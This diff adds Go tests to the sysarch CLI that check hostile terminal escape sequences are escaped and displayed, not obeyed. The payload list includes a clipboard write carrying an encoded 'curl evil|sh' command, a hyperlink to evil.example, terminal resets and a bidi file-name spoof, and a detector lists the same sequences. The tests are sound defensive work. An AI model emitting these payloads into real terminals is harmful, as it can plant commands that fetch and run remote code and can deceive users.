@@ -1,0 +1,114 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/sysarch/sysarch/agent/termsafe"
+)
+
+// payloads are what a hostile file, model or provider puts in text that
+// sysarch prints: a clipboard write (OSC 52), a hyperlink (OSC 8), a
+// window title, a screen clear, a terminal reset, a CSI as one C1 byte,
+// and bidi overrides and isolates.
+var payloads = []string{
+	"\x1b]52;c;Y3VybCBldmlsfHNo\x07",
+	"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
+	"\x1b]0;owned\x07",
+	"\x1b[2J\x1b[H",
+	"\x1bc",
+	"\u009b31m",
+	"admin\u202Etxt.exe\u2066\u2069",
+}
+
+// obeyed reports the first payload-derived control a terminal would act
+// on in out, which may hold sysarch's own colour codes.
+func obeyed(out string) string {
+	for _, bad := range []string{"\x1b]", "\x1bc", "\x1b[2J", "\x1b[H", "\u009b", "\u202E", "\u2066", "\u2069", "\x07"} {
+		if strings.Contains(out, bad) {
+			return bad
+		}
+	}
+	return ""
+}
+
+// TestExampleDocumentsAreClean designs every example and checks that no
+// document, Markdown or JSON, on stdout or written with -o, holds a byte
+// below 0x20 other than newline and tab, or a bidi control.
+func TestExampleDocumentsAreClean(t *testing.T) {
+	reqs, _ := filepath.Glob("../../examples/*.md")
+	n := 0
+	for _, req := range reqs {
+		if strings.HasSuffix(req, ".design.md") {
+			continue
+		}
+		n++
+		for _, format := range []string{"md", "json"} {
+			out := filepath.Join(t.TempDir(), "design."+format)
+			if code, _, errOut := runCLI(t, "design", "-f", req, "--format", format, "-o", out); code != exitOK {
+				t.Fatalf("design %s: exit %d: %s", req, code, errOut)
+			}
+			doc, err := os.ReadFile(out)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !termsafe.Clean(doc) {
+				t.Errorf("design %s --format %s wrote a control character", req, format)
+			}
+		}
+	}
+	if n < 10 {
+		t.Fatalf("found %d examples; the glob is wrong", n)
+	}
+}
+
+// hostileRequirements puts every payload in the fields a document shows.
+func hostileRequirements() string {
+	p := strings.Join(payloads, " ")
+	q := func(s string) string { return `"` + strings.NewReplacer("\\", "\\\\", `"`, `\"`, "\x1b", `\e`, "\x07", `\a`, "\u009b", `\u009b`).Replace(s) + `"` }
+	return "title: " + q("Shop "+p) + "\nsummary: " + q("Sells "+p) +
+		"\nfunctional:\n  - " + q("browse "+p) + "\nworkloads:\n  - {name: " + q("list "+p) + ", kind: read, rate: 20/s}\n" +
+		""
+}
+
+func TestHostileRequirementsAreShownNotObeyed(t *testing.T) {
+	req := writeReq(t, hostileRequirements())
+	for _, format := range []string{"md", "json"} {
+		code, out, errOut := runCLI(t, "design", "-f", req, "--format", format)
+		if code != exitOK {
+			t.Fatalf("design --format %s: exit %d: %s", format, code, errOut)
+		}
+		if !termsafe.Clean([]byte(out)) {
+			t.Errorf("design --format %s printed a control character: %q", format, out[:min(len(out), 300)])
+		}
+		if !strings.Contains(out, `\x1b]52;c;`) || !strings.Contains(out, "U+202E") {
+			t.Errorf("design --format %s does not show the payload visibly", format)
+		}
+	}
+	ios, out, errOut := ttyIO(true, nil)
+	if code := run([]string{"design", "-f", req}, ios); code != exitOK {
+		t.Fatalf("design on a terminal: exit %d: %s", code, errOut)
+	}
+	if bad := obeyed(out.String()); bad != "" {
+		t.Errorf("design on a terminal printed %q raw", bad)
+	}
+	if !strings.Contains(out.String(), "\x1b[") {
+		t.Errorf("design on a terminal lost its own colour")
+	}
+}
+
+func TestReviewShowsHostileTitle(t *testing.T) {
+	doc := "# Design " + strings.Join(payloads, " ") + "\n\n## Components\n\n- " + payloads[0] + " api\n"
+	p := filepath.Join(t.TempDir(), "design "+payloads[4]+".md")
+	if err := os.WriteFile(p, []byte(doc), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, format := range []string{"md", "json"} {
+		_, out, errOut := runCLI(t, "review", p, "--format", format)
+		if !termsafe.Clean([]byte(out)) || !termsafe.Clean([]byte(errOut)) {
+			t.Errorf("review --format %s printed a control character: %q", format, out[:min(len(out), 300)])
+		}
+	}
+}
